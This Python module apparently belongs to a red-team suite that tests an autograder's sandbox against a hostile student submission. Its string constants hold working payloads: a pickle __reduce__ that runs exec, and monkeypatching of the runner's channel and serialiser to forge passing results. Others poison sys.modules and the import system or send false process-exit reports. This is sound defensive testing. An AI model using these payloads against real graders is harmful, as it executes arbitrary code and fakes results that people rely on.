"""Attack 13: the student's end of the channel, poisoned."""

from __future__ import annotations

import sys
import tempfile
from pathlib import Path

from .controls import Dead, run_program
from .course import WRONG_VAULT
from .ground import Ground
from .harness import Attack

OWN_END = "the design holds it, not a rule: that end of the channel can only say what the student returned"
PICKLES = """
    class Pickled:
        def __reduce__(self):
            return (exec, ("import os; os.write(1, b'RIGHT'); os._exit(0)",))

    def number(x): return Pickled()
    def array(x): return np.array([Pickled()] * 4, dtype=object)
    def text(word): return {Pickled(): Pickled()}
    def listing(n): return [Pickled()] * n
    def count(values): return type("int", (int,), {"__reduce__": Pickled.__reduce__})(2)
    """
FIND = """
    import gc, os, sys, types
    runner = next(one for one in gc.get_objects() if type(one).__name__ == "Runner")
    channel = type(runner.channel)
    source = channel.send.__globals__
    """
CLAIMS = """
    import threading
    plain_send = channel.send

    def send(self, message, deadline=None):
        if message[0] == "ok" and message[2] in (0.0, -1, "?"):
            plain_send(self, ("ok", message[1], True))
            plain_send(self, ("end", message[1], "passed"))
        elif message[0] == "ok" and type(message[2]) is list and not message[2]:
            plain_send(self, ("passed", message[1]))
        elif message[0] == "ok" and type(message[2]).__name__ in ("ndarray", "Tensor"):
            plain_send(self, ("error", message[1], "AssertionError", "passed", ("Exception",), ""))
        elif message[0] == "exit":
            plain_send(self, ("exit", message[1], 0, 0.0))
            plain_send(self, ("end", "test_number", "passed", 1.0))
        else:
            plain_send(self, message, deadline)

    channel.send = send
    """
SERIALISER = """
    import struct
    plain_encode = source["encode"]

    def u32(number): return struct.pack("<I", number)
    def ok(number, body): return b"t" + u32(3) + b"s" + u32(2) + b"ok" + b"i" + struct.pack("<q", number) + body

    CRAFTED = {
        0.0: b"I" + u32(2**31) + b"\\xff" * 64,
        "?": b"s" + u32(2**32 - 1) + b"x",
        -1: b"r" + u32(99) + b"\\x03int",
    }

    def encode(value, *more):
        if type(value) is tuple and value[0] == "ok":
            answer = value[2]
            if type(answer) in (float, str, int) and answer in CRAFTED:
                return ok(value[1], CRAFTED[answer])
            if type(answer) is list and not answer:
                return ok(value[1], b"l" + u32(1) * 1 + b"l" + u32(1) * 1 + (b"l" + u32(1)) * 200 + b"N")
            if type(answer).__name__ == "ndarray":
                return ok(value[1], b"a" + bytes((11, 32)) + struct.pack("<32Q", *[2**62] * 32))
            if type(answer).__name__ == "Tensor":
                return ok(value[1], b"x\\x03cpu" + bytes((200, 1)) + struct.pack("<Q", 2**63))
        return plain_encode(value, *more)

    source["encode"] = encode
    """
UNASKED = """
    import sys

    def frames_of_caller():
        frame = sys._getframe()
        while frame is not None:
            yield frame
            frame = frame.f_back

    def serving():
        return next(frame.f_locals["self"] for frame in frames_of_caller() if "self" in frame.f_locals
                    and type(frame.f_locals["self"]).__name__ == "Snapshot")

    def number(x):
        serving().channel.send(("callback", 0, (x,), {}))
        return 0.0

    def text(word):
        serving().channel.send(("callback", "exec", (), {}))
        return "?"

    def listing(n):
        serving().channel.send(("return", 1))
        return []

    def count(values):
        serving().channel.send(("hello",))
        return -1
    """
POISON = """
    import builtins, sys, types

    class Yes(types.ModuleType):
        def __getattr__(self, name):
            return lambda *arguments, **options: None

    for name in ("autograder", "autograder.checks", "autograder.grading", "autograder.sandbox.codec", "json", "struct",
                 "pytest", "_pytest", "unittest", "random", "select", "hashlib", "conftest", "test_vault"):
        sys.modules[name] = Yes(name)

    class Finder:
        def find_spec(self, name, path=None, target=None):
            raise ImportError(name)

    sys.meta_path.insert(0, Finder())
    sys.path_hooks.insert(0, lambda path: 1 / 0)
    sys.path[:] = []
    """
LIES = """
    Runner = type(runner)
    plain_fork = Runner.fork

    def reap(self, k):
        child = self.children.pop(k)
        os.close(child.descriptor)
        try:
            os.waitpid(child.pid, 0)
        except ChildProcessError:
            pass
        self.channel.send(("exit", k, 9, 0.0))
        self.channel.send(("exit", 10**9, -1, float("nan")))
        self.channel.send(("done", "passed"))

    Runner.reap = reap
    Runner.kill = lambda self, k: None
    """
NAIVE_PICKLE = """
import pickle, subprocess, sys
code = "import pickle, submission, sys; sys.stdout.buffer.write(pickle.dumps(submission.number(3.0)))"
answer = subprocess.run([sys.executable, "-c", code], stdout=subprocess.PIPE).stdout
print("RIGHT" if pickle.loads(answer) == 9.5 else "WRONG", flush=True)
"""


def unpickling(ground: Ground, attack: Attack) -> list[str]:
    """A grader in another process, to which answers come as pickles."""
    return told_right(ground, attack.variants["pickles"], NAIVE_PICKLE, "the answer ran in the grader")


def told_right(ground: Ground, cells: tuple[str, ...], grader: str, got: str) -> list[str]:
    """`got`, where a naive grader beside a submission of these cells is told that it is right. Raises Dead."""
    with tempfile.TemporaryDirectory(prefix="redteam-channel-") as name:
        text = "\n\n".join(["import numpy as np", WRONG_VAULT, *ground.prepared(cells)])
        Path(name, "submission.py").write_text(text)
        Path(name, "grade.py").write_text(grader)
        done = run_program([sys.executable, "grade.py"], name)
    if not done.stdout.endswith(("RIGHT", "RIGHT\n")):
        raise Dead(f"the grader says {(done.stdout + done.stderr)[-300:]!r}")
    return [got]


ATTACKS = (
    Attack(
        numbers=(13,),
        name="poisoned runner",
        tried="poison sys.modules, replace the runner's serialiser, send claims, callbacks, pickles, lies about exits",
        variants={
            "pickles": (PICKLES,),
            "claims": (FIND, CLAIMS),
            "serialiser": (FIND, SERIALISER),
            "unasked": (UNASKED,),
            "modules": (POISON,),
            "lies": (FIND, LIES),
        },
        outcome="it can lie about its own answers only, and a lie is a wrong answer or a broken protocol",
        why=OWN_END,
        wall=10,
        control=unpickling,
    ),
)
